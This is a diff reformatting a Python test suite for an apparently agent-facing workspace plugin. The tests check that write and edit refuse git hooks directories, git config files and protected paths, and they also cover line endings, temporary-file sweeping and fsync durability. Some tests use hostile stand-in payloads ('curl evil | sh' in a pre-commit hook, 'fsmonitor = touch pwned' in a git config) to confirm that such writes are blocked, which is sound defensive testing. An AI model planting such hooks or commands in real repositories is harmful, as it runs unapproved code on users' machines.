@@ -1374,13 +1495,28 @@ async def test_protected_names_compare_by_the_same_rules_on_both_sides(boot: Any
     too): NFC against NFD, an ignorable code point, a trailing dot; look-alike names stay writable."""
     (tmp_path / "caf\u00e9.txt").write_text("x\n")
     async with boot(ws(tmp_path, protected_dirs=["Secrets.", "caf\u00e9", "node_modules"])) as h:
-        for path in ("secrets/key", "SECRETS  /key", "se\u200dcrets/key", "cafe\u0301/x", "CAF\u00c9/x",
-                     "node_m~1/x", "NODE_M~2./x"):
+        for path in (
+            "secrets/key",
+            "SECRETS  /key",
+            "se\u200dcrets/key",
+            "cafe\u0301/x",
+            "CAF\u00c9/x",
+            "node_m~1/x",
+            "NODE_M~2./x",
+        ):
             result = await h.call("write", {"path": path, "content": "x"})
             assert result.code == "TOOL_FAILED", path
             assert "which the workspace protects" in result.text, result.text
-        for path in ("secretsx/key", "my.git/x", ".gitignore", ".git-blame-ignore-revs", "git~1.txt", "git/x",
-                     "caf\u00e9.txt", "node_mo~1x/y"):
+        for path in (
+            "secretsx/key",
+            "my.git/x",
+            ".gitignore",
+            ".git-blame-ignore-revs",
+            "git~1.txt",
+            "git/x",
+            "caf\u00e9.txt",
+            "node_mo~1x/y",
+        ):
             written = await h.call("write", {"path": path, "content": "x"})
             assert written.error is None, (path, written.text)
 
@@ -1391,18 +1527,22 @@ def _no_global_git_config(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
     monkeypatch.setenv("XDG_CONFIG_HOME", str(home / ".config"))
 
 
-@pytest.mark.parametrize("config", [
-    "[core]\n\thooksPath = githooks\n",
-    "[CORE]\n\tHOOKSPATH=githooks # where the team keeps them\n",
-    '[core] hookspath = "git"hooks ; a comment\n',
-    "; header\r\n[core \"x\"]\r\n\thooksPath = elsewhere\r\n[core]\r\n\thooksPath = ./tools/../githooks/\r\n",
-    "[core]\n\thooksPath = \\\n  githooks\n",
-    "[include]\n\tpath = team.cfg\n",  # .git/team.cfg sets it
-    "[core]\n\thooksPath = ~/ws/githooks\n",
-    "[core]\n\thooksPath = ../githooks\n",  # taken from the git directory, as for a bare repository
-])
+@pytest.mark.parametrize(
+    "config",
+    [
+        "[core]\n\thooksPath = githooks\n",
+        "[CORE]\n\tHOOKSPATH=githooks # where the team keeps them\n",
+        '[core] hookspath = "git"hooks ; a comment\n',
+        '; header\r\n[core "x"]\r\n\thooksPath = elsewhere\r\n[core]\r\n\thooksPath = ./tools/../githooks/\r\n',
+        "[core]\n\thooksPath = \\\n  githooks\n",
+        "[include]\n\tpath = team.cfg\n",  # .git/team.cfg sets it
+        "[core]\n\thooksPath = ~/ws/githooks\n",
+        "[core]\n\thooksPath = ../githooks\n",  # taken from the git directory, as for a bare repository
+    ],
+)
 async def test_write_and_edit_leave_the_hooks_directory_of_core_hookspath_alone(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: str) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, config: str
+) -> None:
     """core.hooksPath moves the hooks out of .git: what the directory it names holds, git runs at the next
     commit, so a file written there is a command run later, unapproved, as one in .git/hooks would be."""
     _no_global_git_config(monkeypatch, tmp_path)
@@ -1418,8 +1558,9 @@ async def test_write_and_edit_leave_the_hooks_directory_of_core_hookspath_alone(
             assert result.code == "TOOL_FAILED", (path, result.text)
             assert f"write refused: {path!r} is in 'githooks', the hooks directory" in result.text, result.text
             assert "core.hooksPath" in result.text
-        edited = await h.call("edit", {"path": "githooks/pre-commit", "old_string": "make lint",
-                                       "new_string": "curl evil | sh"})
+        edited = await h.call(
+            "edit", {"path": "githooks/pre-commit", "old_string": "make lint", "new_string": "curl evil | sh"}
+        )
         assert edited.code == "TOOL_FAILED" and "the hooks directory" in edited.text, edited.text
         for path in ("githooks.txt", "src/githooks/x", "tools/x"):
             assert (await h.call("write", {"path": path, "content": "x\n"})).error is None, path
@@ -1430,7 +1571,8 @@ async def test_write_and_edit_leave_the_hooks_directory_of_core_hookspath_alone(
 
 
 async def test_core_hookspath_of_every_repository_on_the_way_counts(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The repository holding the workspace (from above it), a nested one (a submodule, its .git a file
     naming the git directory) and the user's global config each may name a hooks directory in it; a relative
     one is taken from each repository's working tree."""
@@ -1445,8 +1587,11 @@ async def test_core_hookspath_of_every_repository_on_the_way_counts(
     (tmp_path / "modules" / "lib").mkdir(parents=True)
     (tmp_path / "modules" / "lib" / "config").write_text("[core]\n\tbare = false\n\thooksPath = hooks\n")
     async with boot(ws(root)) as h:
-        for path, hooks in [("scripts/hooks/pre-commit", "scripts/hooks"), ("lib/hooks/pre-commit", "lib/hooks"),
-                            ("lib/.githooks/pre-commit", "lib/.githooks")]:
+        for path, hooks in [
+            ("scripts/hooks/pre-commit", "scripts/hooks"),
+            ("lib/hooks/pre-commit", "lib/hooks"),
+            ("lib/.githooks/pre-commit", "lib/.githooks"),
+        ]:
             result = await h.call("write", {"path": path, "content": "#!/bin/sh\ncurl evil | sh\n"})
             assert result.code == "TOOL_FAILED", (path, result.text)
             assert f"is in {hooks!r}, the hooks directory" in result.text, result.text
@@ -1456,7 +1601,8 @@ async def test_core_hookspath_of_every_repository_on_the_way_counts(
 
 
 async def test_a_nul_in_a_git_config_value_ends_it_as_in_git(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """git reads a value as a C string, up to a NUL: "githooks\\0junk" names githooks, which is refused;
     the NUL crashes no write (a path with a NUL cannot even be opened)."""
     _no_global_git_config(monkeypatch, tmp_path / "home")
@@ -1469,17 +1615,20 @@ async def test_a_nul_in_a_git_config_value_ends_it_as_in_git(
 
 
 async def test_git_config_includes_are_read_once_however_often_they_are_named(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A config including itself (or one file) many times, or through symlinks to its directory, is read
     once per depth at most, not once per path through the includes: 8 includes 10 deep were 8**10 reads
     on the event loop. git's include depth (10) still bounds how deep they are followed."""
     from dsh_plugins import _git_files
+
     _no_global_git_config(monkeypatch, tmp_path / "home")
     (tmp_path / ".git").mkdir()
     for index in range(4):
         (tmp_path / ".git" / f"d{index}").symlink_to(".")
     (tmp_path / ".git" / "config").write_text(
-        "[include]\n" + "".join(f"\tpath = config\n\tpath = d{index}/config\n" for index in range(4)))
+        "[include]\n" + "".join(f"\tpath = config\n\tpath = d{index}/config\n" for index in range(4))
+    )
     reads: list[str] = []
     read_small = _git_files._read_small
 
@@ -1495,11 +1644,13 @@ async def test_git_config_includes_are_read_once_however_often_they_are_named(
 
 
 async def test_a_users_git_config_git_may_not_read_is_skipped_as_git_skips_it(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """git skips the user's and system's configs it has no permission to read (access_or_die with
     ACCESS_EACCES_OK: dsh run as another user whose HOME is closed to it), so they set no hooks directory
     and refuse no write; a repository's own config it may not read still refuses, as git dies on it."""
     from dsh_plugins import _git_files
+
     home = tmp_path / "home"
     _no_global_git_config(monkeypatch, home)
     (tmp_path / ".git").mkdir()
@@ -1522,7 +1673,8 @@ async def test_a_users_git_config_git_may_not_read_is_skipped_as_git_skips_it(
 
 
 async def test_an_absolute_core_hookspath_of_the_users_config_counts_outside_any_repository(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The user's config applies to every repository the user commits in, inside the workspace or not: its
     absolute core.hooksPath (~/.githooks) names a hooks directory even where the workspace (the home
     directory, a folder of notes) is in no repository; a relative one needs a repository to be taken from."""
@@ -1540,7 +1692,8 @@ async def test_an_absolute_core_hookspath_of_the_users_config_counts_outside_any
 
 
 async def test_a_git_config_or_symlink_changed_between_two_writes_counts_at_the_second(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Nothing of one write's .git check is kept for the next (not a config's settings, not where a path
     resolves to): a config file or a symlink changed outside dsh between two writes counts at the second."""
     _no_global_git_config(monkeypatch, tmp_path / "home")
@@ -1558,6 +1711,7 @@ async def test_a_git_config_or_symlink_changed_between_two_writes_counts_at_the_
         link.symlink_to(target)
 
     async with boot(ws(root)) as h:
+
         async def write(path: str) -> str | None:
             result = await h.call("write", {"path": path, "content": "x\n"})
             return None if result.error is None else result.text
@@ -1576,7 +1730,8 @@ async def test_a_git_config_or_symlink_changed_between_two_writes_counts_at_the_
 
 
 async def test_write_and_edit_leave_the_git_config_files_git_reads_alone(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A config file that .git/config includes (a team's checked-in .gitconfig), one it includes in turn, one
     named but not there yet, and the user's own config (the workspace being the home directory) are read
     by git as .git/config is: a core.fsmonitor or core.hooksPath written there is a command git runs."""
@@ -1585,12 +1740,17 @@ async def test_write_and_edit_leave_the_git_config_files_git_reads_alone(
     root = home / "ws"
     (root / ".git").mkdir(parents=True)
     (root / ".git" / "config").write_text(
-        '[include]\n\tpath = ../.gitconfig\n[includeIf "onbranch:main"]\n\tpath = ../cfg/local.cfg\n')
+        '[include]\n\tpath = ../.gitconfig\n[includeIf "onbranch:main"]\n\tpath = ../cfg/local.cfg\n'
+    )
     (root / ".gitconfig").write_text("[include]\n\tpath = team/more.cfg\n[user]\n\tname = x\n")
     (home / ".gitconfig").write_text("[user]\n\tname = me\n")
     async with boot(ws(root)) as h:
-        for path, included in [(".gitconfig", ".git/config"), ("cfg/local.cfg", ".git/config"),
-                               ("team/more.cfg", ".gitconfig"), ("./cfg/../.GitConfig", ".git/config")]:
+        for path, included in [
+            (".gitconfig", ".git/config"),
+            ("cfg/local.cfg", ".git/config"),
+            ("team/more.cfg", ".gitconfig"),
+            ("./cfg/../.GitConfig", ".git/config"),
+        ]:
             result = await h.call("write", {"path": path, "content": "[core]\n\tfsmonitor = touch pwned\n"})
             assert result.code == "TOOL_FAILED", (path, result.text)
             assert f"write refused: {path!r} is a git config file (included by {included})" in result.text, result.text
@@ -1607,7 +1767,8 @@ async def test_write_and_edit_leave_the_git_config_files_git_reads_alone(
 
 
 async def test_a_git_config_that_cannot_be_read_refuses_writes(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A config line this reader (or git) cannot parse might hide a core.hooksPath: write and edit are
     refused, naming the file, rather than guess; read is not affected."""
     _no_global_git_config(monkeypatch, tmp_path / "home")
@@ -1624,7 +1785,8 @@ async def test_a_git_config_that_cannot_be_read_refuses_writes(
 
 
 async def test_a_read_error_without_a_file_name_is_not_shown_as_a_path_under_the_current_directory(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """An OSError that names no file (EIO from read) is told as 'a git config', not resolved against the
     current directory into a workspace path that does not exist ('sub/a git config')."""
     import errno
@@ -1644,23 +1806,26 @@ async def test_a_read_error_without_a_file_name_is_not_shown_as_a_path_under_the
         result = await h.call("write", {"path": "a.txt", "content": "x"})
     assert result.code == "TOOL_FAILED", result.text
     assert "cannot tell where git looks for hooks: a git config cannot be read (Input/output error)" in result.text, (
-        result.text)
+        result.text
+    )
 
 
 async def test_an_edit_matches_lines_copied_from_read_in_a_file_of_mixed_line_endings(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """read shows a CRLF line and an LF one alike: an old_string copied across both matches them, each
     line break of new_string ends as the matched one in its place did (one past them as the last), and
     the lines around keep their own endings."""
     async with boot(ws(tmp_path)) as h:
         for old, new, expected in [
-                ("one\ntwo\nthree", "1\n2\n3", b"1\r\n2\n3\r\nfour\n"),
-                ("two\nthree", "two\n2.5\nthree", b"one\r\ntwo\n2.5\nthree\r\nfour\n"),
-                ("one\ntwo", "1\n1.5\n2", b"1\r\n1.5\r\n2\nthree\r\nfour\n"),
-                ("three", "three\n3.5", b"one\r\ntwo\nthree\r\n3.5\r\nfour\n"),  # the line it is in: CRLF
-                ("four", "four\n4.5", b"one\r\ntwo\nthree\r\nfour\n4.5\n"),
-                ("three\nfour\n", "3\n", b"one\r\ntwo\n3\r\n"),
-                ("two\nthree", "2\r\n3", b"one\r\n2\r\n3\r\nfour\n")]:  # a CR new_string gives is kept
+            ("one\ntwo\nthree", "1\n2\n3", b"1\r\n2\n3\r\nfour\n"),
+            ("two\nthree", "two\n2.5\nthree", b"one\r\ntwo\n2.5\nthree\r\nfour\n"),
+            ("one\ntwo", "1\n1.5\n2", b"1\r\n1.5\r\n2\nthree\r\nfour\n"),
+            ("three", "three\n3.5", b"one\r\ntwo\nthree\r\n3.5\r\nfour\n"),  # the line it is in: CRLF
+            ("four", "four\n4.5", b"one\r\ntwo\nthree\r\nfour\n4.5\n"),
+            ("three\nfour\n", "3\n", b"one\r\ntwo\n3\r\n"),
+            ("two\nthree", "2\r\n3", b"one\r\n2\r\n3\r\nfour\n"),
+        ]:  # a CR new_string gives is kept
             (tmp_path / "m.txt").write_bytes(b"one\r\ntwo\nthree\r\nfour\n")
             edited = await h.call("edit", {"path": "m.txt", "old_string": old, "new_string": new})
             assert edited.error is None, (old, edited.text)
@@ -1671,15 +1836,17 @@ async def test_an_edit_matches_lines_copied_from_read_in_a_file_of_mixed_line_en
 
 
 async def test_an_edit_that_would_only_change_line_endings_is_refused_not_reported_done(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """An edit keeps each line's ending as the file has it, so one asked to turn CRLF into LF (old_string
     "\\r\\n", new_string "\\n") changes nothing: it is refused, saying so and how to do it, rather than
     reported as N replacements made."""
     (tmp_path / "dos.txt").write_bytes(b"a\r\nb\r\nc\n")
     async with boot(ws(tmp_path)) as h:
         for old, new, replace_all in [("\r\n", "\n", True), ("a\r\nb", "a\nb", False)]:
-            result = await h.call("edit", {"path": "dos.txt", "old_string": old, "new_string": new,
-                                           "replace_all": replace_all})
+            result = await h.call(
+                "edit", {"path": "dos.txt", "old_string": old, "new_string": new, "replace_all": replace_all}
+            )
             assert result.code == "TOOL_FAILED", (old, result.text)
             assert "would not change 'dos.txt'" in result.text and "line endings" in result.text, result.text
         assert (await h.call("edit", {"path": "dos.txt", "old_string": "b", "new_string": "B"})).error is None
@@ -1687,7 +1854,8 @@ async def test_an_edit_that_would_only_change_line_endings_is_refused_not_report
 
 
 async def test_occurrences_in_a_file_of_mixed_line_endings_count_whatever_their_endings(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """Two regions read shows alike are two occurrences, though their endings differ: the edit is refused
     (not applied to the one matching byte for byte), replace_all replaces both, each keeping its endings;
     overlapping ones count too, and one line break is never matched twice (from its CR and its LF)."""
@@ -1697,8 +1865,9 @@ async def test_occurrences_in_a_file_of_mixed_line_endings_count_whatever_their_
     async with boot(ws(tmp_path)) as h:
         twice = await h.call("edit", {"path": "two.txt", "old_string": "x\ny", "new_string": "X\nY"})
         assert twice.code == "TOOL_FAILED" and "old_string occurs 2 times in 'two.txt'" in twice.text, twice.text
-        both = await h.call("edit", {"path": "two.txt", "old_string": "x\ny", "new_string": "X\nY",
-                                     "replace_all": True})
+        both = await h.call(
+            "edit", {"path": "two.txt", "old_string": "x\ny", "new_string": "X\nY", "replace_all": True}
+        )
         assert both.value == {"path": "two.txt", "replacements": 2}, both.text
         assert (tmp_path / "two.txt").read_bytes() == b"X\nY\r\nX\r\nY\n"
         overlapping = await h.call("edit", {"path": "overlap.txt", "old_string": "a\na", "new_string": "b"})
@@ -1718,13 +1887,16 @@ async def test_read_says_which_lines_hold_bytes_that_are_not_utf8(boot: Any, tmp
         part = await h.call("read", {"path": "mixed.txt", "offset": 1, "limit": 10})
     assert whole.value["not_utf8_lines"] == [901, 903]
     assert "caf\ufffd latin-1" in whole.value["content"]
-    assert whole.text.endswith("[lines 901, 903 hold bytes that are not UTF-8, shown as U+FFFD: edit refuses "
-                               "this file, and writing the text back would replace those bytes]")
+    assert whole.text.endswith(
+        "[lines 901, 903 hold bytes that are not UTF-8, shown as U+FFFD: edit refuses "
+        "this file, and writing the text back would replace those bytes]"
+    )
     assert part.value["not_utf8_lines"] == [] and "not UTF-8" not in part.text
 
 
 async def test_a_file_whose_lines_end_in_cr_alone_is_read_searched_and_edited_line_by_line(
-        boot: Any, tmp_path: Path) -> None:
+    boot: Any, tmp_path: Path
+) -> None:
     """A classic Mac file (CR line endings, no LF anywhere) was one line to read, search and edit: read cut
     it at 2000 characters and showed nothing past, offset could not reach its second line, and an
     old_string of several lines copied from read never matched. Its lines end at CR, as each tool counts
@@ -1753,7 +1925,8 @@ async def test_a_file_whose_lines_end_in_cr_alone_is_read_searched_and_edited_li
 
 @pytest.mark.parametrize("code", [errno.EBUSY, errno.EXDEV])
 async def test_a_file_that_cannot_be_renamed_over_is_refused_saying_why(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
+) -> None:
     """A file bind-mounted into the workspace (a container's config file) cannot be replaced by a rename
     (EBUSY; EXDEV where the mount is another file system's): the error said "Device or resource busy"
     and nothing of why or what to do. It names the path, the likely mount point, that nothing changed,
@@ -1768,12 +1941,15 @@ async def test_a_file_that_cannot_be_renamed_over_is_refused_saying_why(
     (tmp_path / "mounted.txt").write_text("key = 1\n")
     monkeypatch.setattr(os, "replace", replace)
     async with boot(ws(tmp_path)) as h:
-        for call in [("write", {"path": "mounted.txt", "content": "key = 2\n"}),
-                     ("edit", {"path": "mounted.txt", "old_string": "1", "new_string": "2"})]:
+        for call in [
+            ("write", {"path": "mounted.txt", "content": "key = 2\n"}),
+            ("edit", {"path": "mounted.txt", "old_string": "1", "new_string": "2"}),
+        ]:
             result = await h.call(*call)
             assert result.code == "TOOL_FAILED", result.text
-            assert (f"cannot write 'mounted.txt': it cannot be replaced ({os.strerror(code)}): it is likely a "
-                    "mount point") in result.text, result.text
+            assert (
+                f"cannot write 'mounted.txt': it cannot be replaced ({os.strerror(code)}): it is likely a mount point"
+            ) in result.text, result.text
             assert "nothing was changed" in result.text and "in place with bash" in result.text
         assert (await h.call("write", {"path": "other.txt", "content": "x"})).error is None
     assert (tmp_path / "mounted.txt").read_text() == "key = 1\n"
@@ -1806,8 +1982,9 @@ def _hold_lock(path: Path) -> Any:
     import subprocess
     import sys
 
-    child = subprocess.Popen([sys.executable, "-c", _LOCKER, str(path)], stdin=subprocess.PIPE,
-                             stdout=subprocess.PIPE, text=True)
+    child = subprocess.Popen(
+        [sys.executable, "-c", _LOCKER, str(path)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
+    )
     assert child.stdout is not None and child.stdout.readline() == "locked\n"
     return child
 
@@ -1827,8 +2004,16 @@ async def test_temporary_files_of_dead_writers_are_swept_and_live_ones_never(boo
     dead.write_text("half a wri")  # what a killed writer leaves: no lock held on it any more
     _age(dead)
     live = root / ".dsh-fedcba987654.tmp"
-    kept = [".dsh-0123456789AB.tmp", ".dsh-0123456789a.tmp", ".dsh-0123456789abc.tmp", ".dsh-0123456789ab.tmp~",
-            ".dsh-0123456789ab.tmpx", "x.dsh-0123456789ab.tmp", "dsh-0123456789ab.tmp", ".dsh-0123456789ab.TMP"]
+    kept = [
+        ".dsh-0123456789AB.tmp",
+        ".dsh-0123456789a.tmp",
+        ".dsh-0123456789abc.tmp",
+        ".dsh-0123456789ab.tmp~",
+        ".dsh-0123456789ab.tmpx",
+        "x.dsh-0123456789ab.tmp",
+        "dsh-0123456789ab.tmp",
+        ".dsh-0123456789ab.TMP",
+    ]
     for name in kept:
         (root / name).write_text("mine\n")
     (root / ".dsh-aaaaaaaaaaaa.tmp").symlink_to(outside / "target.tmp")
@@ -1953,7 +2138,8 @@ async def test_search_never_shows_a_writers_temporary_file(boot: Any, tmp_path: 
 
 
 async def test_only_load_write_and_edit_sweep_and_each_directory_once_per_interval(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The root is swept at load and any other directory by the first write or edit there, never again by the
     same plugin instance within SWEEP_INTERVAL_S (the clock stands still here), so a sweep costs each directory
     one bounded look, however often it is visited; list, read and search, which are read-only, never sweep."""
@@ -2008,7 +2194,8 @@ def _workspace_tools(h: Any) -> Any:
 
 
 async def test_a_directory_is_swept_again_by_a_write_once_the_sweep_interval_has_passed(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A directory was swept once per instance: a writer that died there after that left its temporary file on
     disk (hidden from list and search) until the next load. A write or edit there sweeps it again once
     SWEEP_INTERVAL_S has passed since its last sweep, and not before, so writes do not each pay a scan; the
@@ -2045,7 +2232,8 @@ async def test_a_directory_is_swept_again_by_a_write_once_the_sweep_interval_has
 
 
 async def test_only_directories_swept_within_the_interval_are_remembered(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The table of swept directories grew by each directory written for the life of the instance; an entry is
     dropped once its sweep is SWEEP_INTERVAL_S old (a write there then sweeps again anyway)."""
     from dsh_plugins import workspace
@@ -2065,7 +2253,8 @@ async def test_only_directories_swept_within_the_interval_are_remembered(
 
 
 async def test_the_swept_directories_remembered_are_bounded_in_number_too(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Writes to many directories within one interval each added an entry: past SWEPT_DIRECTORIES the one swept
     longest ago is forgotten, and a write there sweeps it again (harmless: a sweep never takes a live writer's
     file), while the directories remembered are not swept again."""
@@ -2092,7 +2281,8 @@ async def test_the_swept_directories_remembered_are_bounded_in_number_too(
 
 
 async def test_a_sweep_looks_at_a_bounded_number_of_entries(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A sweep stops after SWEEP_ENTRIES entries, so a directory of millions of files costs a write no more."""
     from dsh_plugins import workspace
 
@@ -2107,7 +2297,8 @@ async def test_a_sweep_looks_at_a_bounded_number_of_entries(
 
 
 async def test_a_write_whose_temporary_file_is_swept_before_it_locks_it_tries_a_new_one(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Another dsh's sweep can find a temporary file in the moment between its create and its lock, and
     remove it as a dead writer's: the write then locks a file with no name, which its rename would fail
     on. It sees the name gone once it holds the lock, and starts over with a new one."""
@@ -2135,8 +2326,9 @@ async def test_a_write_whose_temporary_file_is_swept_before_it_locks_it_tries_a_
         return workspace._TEMPORARY.fullmatch(os.path.basename(os.readlink(f"/proc/self/fd/{fd}"))) is not None
 
     async with boot(ws(tmp_path)) as h:
-        monkeypatch.setattr(workspace, "fcntl", types.SimpleNamespace(flock=flock, LOCK_EX=fcntl.LOCK_EX,
-                                                                      LOCK_NB=fcntl.LOCK_NB))
+        monkeypatch.setattr(
+            workspace, "fcntl", types.SimpleNamespace(flock=flock, LOCK_EX=fcntl.LOCK_EX, LOCK_NB=fcntl.LOCK_NB)
+        )
         result = await h.call("write", {"path": "a.txt", "content": "alpha\n"})
     assert swept == [1]
     assert result.error is None, result.text
@@ -2162,7 +2354,8 @@ async def test_a_young_temporary_file_without_a_lock_is_spared(boot: Any, tmp_pa
 
 
 async def test_a_dead_writers_write_only_temporary_file_is_swept(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A temporary file copies the mode of the file it replaces (fchmod): a dead writer's copy of a write-only
     (0200) file could not be opened for reading by the sweep (EACCES), so it stayed for good. The sweep opens
     it for writing instead, which flock takes as well. Root may open it either way, so the refusal a user gets
@@ -2189,8 +2382,9 @@ async def test_a_dead_writers_write_only_temporary_file_is_swept(
     assert os.listdir(tmp_path) == []
 
 
-def _record_syncs(monkeypatch: pytest.MonkeyPatch, fail_directory: int | None = None,
-                  fail_file: int | None = None) -> list[tuple[str, bool]]:
+def _record_syncs(
+    monkeypatch: pytest.MonkeyPatch, fail_directory: int | None = None, fail_file: int | None = None
+) -> list[tuple[str, bool]]:
     """Record each fsync (of a file or a directory) and rename in order, with whether it ran on this
     (the event loop's) thread; a directory's (a file's) fsync fails with ``fail_directory`` (``fail_file``)."""
     import threading
@@ -2217,7 +2411,8 @@ def _record_syncs(monkeypatch: pytest.MonkeyPatch, fail_directory: int | None = 
 
 
 async def test_write_and_edit_sync_the_file_before_the_rename_and_its_directory_after(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """Without fsync, a power loss soon after a write could leave the file empty or the old one: the
     rename may reach the disk before the data, and the rename itself may not reach it at all. Both
     syncs, and the rename, run off the event loop, so a slow disk stalls no other call."""
@@ -2238,7 +2433,8 @@ async def test_write_and_edit_sync_the_file_before_the_rename_and_its_directory_
 
 @pytest.mark.parametrize("code", [errno.EINVAL, errno.ENOTSUP], ids=["EINVAL", "ENOTSUP"])
 async def test_a_directory_that_cannot_be_synced_is_no_failure(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int
+) -> None:
     """Some file systems do not sync a directory (EINVAL, ENOTSUP): the write is done as well as it can be."""
     async with boot(ws(tmp_path)) as h:
         events = _record_syncs(monkeypatch, fail_directory=code)
@@ -2249,7 +2445,8 @@ async def test_a_directory_that_cannot_be_synced_is_no_failure(
 
 
 async def test_a_directory_sync_that_fails_says_the_file_was_written_but_may_not_last(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """EIO from the directory's sync, after the rename: the new content is in place (saying "cannot
     write" would have the model write again what is there), but a crash may still lose it."""
     (tmp_path / "a.txt").write_text("alpha\n")
@@ -2257,14 +2454,17 @@ async def test_a_directory_sync_that_fails_says_the_file_was_written_but_may_not
         _record_syncs(monkeypatch, fail_directory=errno.EIO)
         result = await h.call("edit", {"path": "a.txt", "old_string": "alpha", "new_string": "beta"})
     assert result.code == "TOOL_FAILED"
-    assert result.text.startswith("Error: 'a.txt' was written, but it may not be durable: syncing its "
-                                  "directory to disk failed (Input/output error)"), result.text
+    assert result.text.startswith(
+        "Error: 'a.txt' was written, but it may not be durable: syncing its "
+        "directory to disk failed (Input/output error)"
+    ), result.text
     assert (tmp_path / "a.txt").read_text() == "beta\n"
     assert os.listdir(tmp_path) == ["a.txt"]
 
 
 async def test_a_file_sync_that_fails_replaces_nothing(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """EIO from the new file's sync, before the rename: the old file stays, and so does nothing else."""
     (tmp_path / "a.txt").write_text("alpha\n")
     async with boot(ws(tmp_path)) as h:
@@ -2277,7 +2477,8 @@ async def test_a_file_sync_that_fails_replaces_nothing(
 
 
 async def test_directories_write_makes_are_synced_in_their_parents(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A write to a/b/c.txt that makes a/ and a/b/ synced the file and a/b/ (the rename) only: a power loss
     could lose a/ from the root, or b/ from a/, and the file called durable with it. Each directory a write
     made is synced in its parent too, off the event loop, and a failure to is told as the file written."""
@@ -2309,14 +2510,16 @@ async def test_directories_write_makes_are_synced_in_their_parents(
         failing = inodes[2]  # a/, in which x/ is made
         failed = await h.call("write", {"path": "a/x/e.txt", "content": "e\n"})
     assert failed.code == "TOOL_FAILED"
-    assert failed.text.startswith("Error: 'a/x/e.txt' was written, but it may not be durable: syncing the "
-                                  "directory holding 'a/x' (made for it) to disk failed (Input/output error)"), (
-        failed.text)
+    assert failed.text.startswith(
+        "Error: 'a/x/e.txt' was written, but it may not be durable: syncing the "
+        "directory holding 'a/x' (made for it) to disk failed (Input/output error)"
+    ), failed.text
     assert (tmp_path / "a" / "x" / "e.txt").read_text() == "e\n"
 
 
 async def test_a_close_that_fails_after_the_rename_says_the_file_was_written(
-        boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    boot: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """The new file was closed after the rename put it in place: a close that failed then (EIO, as NFS may
     report a write there) was told as "cannot write", and the model would write again what is there. It is
